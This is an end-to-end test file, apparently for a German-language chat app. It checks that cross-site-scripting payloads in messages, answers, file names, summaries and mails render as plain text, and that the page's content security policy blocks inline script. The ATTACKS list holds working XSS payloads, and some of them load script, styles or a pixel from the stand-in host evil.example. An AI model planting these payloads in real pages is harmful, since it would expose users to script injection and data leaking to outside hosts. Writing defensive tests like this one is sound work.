import { ChatPage } from '../../support/chat-page.js';
import { expect, test } from '../../support/fixtures.js';
import { readMails } from '../../support/outbox.js';

/** Each would open a dialog or call another host if it were taken for more than text. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)></svg>',
  '<iframe src="javascript:alert(4)"></iframe>',
  '<a href="javascript:alert(5)">hier</a>',
  '"><script src="https://evil.example/a.js"></script>',
  '[hier](javascript:alert(6))',
  '[hier](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==)',
  '![Bild](https://evil.example/pixel.png)',
  '<style>@import "https://evil.example/a.css";</style>',
  '<details open ontoggle=alert(8)><summary>mehr</summary></details>',
  '<base href="https://evil.example/"><form action="https://evil.example/"><input name=q></form>',
  '{{constructor.constructor("alert(9)")()}}',
  "';alert(10)//",
];

/** What of it may never become an element of the page. */
const FORBIDDEN =
  'script, img, iframe, style, base, li form, details, object, embed, [onerror], [onload]';

// It counts mails.
test.use({ ownGuided: true });

test('hostile text in messages, answers, file names and mails stays text', async ({
  page,
  guided,
  provider,
  tenant,
}) => {
  const chat = new ChatPage(page);
  await chat.open(guided.url);
  await chat.identify(tenant);
  // The fixtures fail this test on any dialog, foreign request or blocked script.
  provider.always((call) => call.answer(`Zurück: ${ATTACKS.join('\n\n')}\n\nEnde`));
  await chat.say(ATTACKS.join('\n'));
  await expect(chat.answerTo('alert(10)')).toContainText('Ende');
  for (const attack of ATTACKS)
    await expect(chat.messages.filter({ hasText: attack })).not.toHaveCount(0);

  await chat.attach(
    ATTACKS.map((attack) => ({
      name: `${attack.replaceAll('/', '')}.txt`,
      mimeType: 'text/plain',
      // A text that looks like a page would be refused for its content; here the name is on trial.
      buffer: Buffer.from('Ein Brief an die Hausverwaltung.'),
    })),
  );
  await expect(chat.stagedFiles).toHaveCount(ATTACKS.length);
  await expect(page.getByRole('main').locator(FORBIDDEN)).toHaveCount(0);
  await chat.say('Viele Dateien');
  await expect(chat.answerTo('Viele Dateien')).toContainText('Ende');
  await expect(chat.attachedFiles).toHaveCount(ATTACKS.length);
  await page.reload();
  await expect(chat.answerTo('Viele Dateien')).toContainText('Ende');
  await expect(page.getByRole('main').locator(FORBIDDEN)).toHaveCount(0);
  await expect(
    chat.log.locator(
      'a:not([href^="http"]):not([href^="/"]):not([href^="tel:"]):not([href^="mailto:"])',
    ),
  ).toHaveCount(0);

  await chat.end();
  await expect(chat.summary).toContainText('alert(1)');
  await expect(chat.summary.locator(FORBIDDEN)).toHaveCount(0);
  await expect.poll(() => readMails(guided)).toHaveLength(2);
  for (const { id, subject } of await readMails(guided)) {
    expect(subject).not.toMatch(/[\r\n]/);
    await page.goto(`${guided.url}/dev/mail/${id}/html`);
    await expect(page.locator('body')).toContainText('alert(2)');
    await expect(page.locator('body').locator(FORBIDDEN)).toHaveCount(0);
  }
});

test('the content policy allows no inline script, no eval and no frames', async ({
  request,
  product,
}) => {
  for (const path of ['/', '/gibt/es/nicht']) {
    const response = await request.get(product.url + path);
    const policy = response.headers()['content-security-policy'] ?? '';
    const scripts = /script-src ([^;]*)/.exec(policy)?.[1];
    expect(scripts).toBe("'self'");
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("base-uri 'none'");
  }
});
